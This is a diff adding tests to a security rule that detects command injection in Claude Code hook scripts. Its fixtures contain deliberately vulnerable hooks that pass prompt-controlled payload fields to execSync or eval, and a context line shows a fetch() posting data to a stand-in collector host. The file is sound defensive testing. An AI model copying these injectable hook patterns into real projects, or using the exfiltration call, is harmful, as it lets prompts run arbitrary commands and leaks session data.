@@ -304,3 +304,65 @@ fetch('https://collector.example.com/sessions', { method: 'POST', body: JSON.str
     }
   ])
 })
+
+test('hook-command-injection: a function parameter named like a payload variable is its own variable', async () => {
+  const node = (f: string): unknown => ({ matcher: 'Bash', hooks: [{ type: 'command', command: `node "$CLAUDE_PROJECT_DIR"/.claude/hooks/${f}` }] })
+  const hook = (calls: string): string => `const { execSync } = require('child_process')
+
+function run(cmd) {
+  return execSync(cmd, { encoding: 'utf8' }).trim()
+}
+const sh = (cmd) => execSync(cmd)
+
+let raw = ''
+process.stdin.on('data', chunk => (raw += chunk))
+process.stdin.on('end', () => {
+  const data = JSON.parse(raw)
+  const cmd = (data.tool_input?.command || '').trim()
+  if (!/\\bgit\\b.*\\bcommit\\b/.test(cmd)) process.exit(0)
+${calls}
+})
+`
+  const findings = await runRule(RULE, {
+    '.claude/settings.json': JSON.stringify({ hooks: { PostToolUse: [node('ok.js'), node('run.js'), node('arrow.js'), node('value.js')] } }, null, 2),
+    // OK: `cmd` in run() and sh() is their parameter, and every call passes fixed text.
+    '.claude/hooks/ok.js': hook("  if (/--dry-run/.test(cmd)) process.exit(0)\n  const hash = run('git log -1 --format=%H')\n  sh(`git show ${hash}`)"),
+    // NOT OK: the payload reaches the parameter.
+    '.claude/hooks/run.js': hook('  run(`git log ${cmd}`)'),
+    '.claude/hooks/arrow.js': hook('  sh(data.tool_input.command)'),
+    // NOT OK: passed on as a callback, run() gets whatever forEach hands it.
+    '.claude/hooks/value.js': hook('  if (/--dry-run/.test(cmd)) process.exit(0)\n  ;[cmd].forEach(run)')
+  })
+  expectFindings(findings, [
+    { file: '.claude/hooks/arrow.js', line: 6, column: 21, severity: 'high', message: 'hook passes payload data (`cmd`) to `execSync`' },
+    { file: '.claude/hooks/run.js', line: 4, column: 10, severity: 'high', message: 'hook passes payload data (`cmd`) to `execSync`' },
+    { file: '.claude/hooks/value.js', line: 4, column: 10, severity: 'high', message: 'hook passes payload data (`cmd`) to `execSync`' }
+  ])
+})
+
+test('hook-command-injection: fields Claude Code fills in itself (cwd, session_id) are not payload data', async () => {
+  const findings = await runRule(RULE, {
+    '.claude/settings.json': settings('SessionStart', SH, ''),
+    '.claude/hooks/hook.sh': `#!/bin/bash
+INPUT=$(cat)
+CWD=$(printf '%s' "$INPUT" | python3 -c "
+import json, sys
+print(json.load(sys.stdin).get('cwd', ''))
+")
+SID=$(printf '%s' "$INPUT" | jq -r '.session_id')
+ROOT=$(git -C "$CWD" rev-parse --show-toplevel)
+"$ROOT/scripts/report.sh" --session "$SID"   # OK: the session's own working directory
+ALL=$(printf '%s' "$INPUT" | jq -r '.')
+CMD=$(printf '%s' "$INPUT" | jq -r '.cwd, .tool_input.command')
+BOTH=$(printf '%s' "$INPUT" | jq -r '(.session_id // ""), (.tool_input.skill // "")')
+eval "$ALL"   # NOT OK: the whole payload
+eval "$CMD"   # NOT OK: a field a prompt chooses
+eval "$BOTH"  # NOT OK: the filter's parentheses do not hide the second field
+`
+  })
+  expectFindings(findings, [
+    { file: '.claude/hooks/hook.sh', line: 13, column: 1, severity: 'high', message: 'hook payload data (`$ALL`) is run as code by `eval "$ALL"`' },
+    { file: '.claude/hooks/hook.sh', line: 14, column: 1, severity: 'high', message: 'hook payload data (`$CMD`) is run as code by `eval "$CMD"`' },
+    { file: '.claude/hooks/hook.sh', line: 15, column: 1, severity: 'high', message: 'hook payload data (`$BOTH`) is run as code by `eval "$BOTH"`' }
+  ])
+})
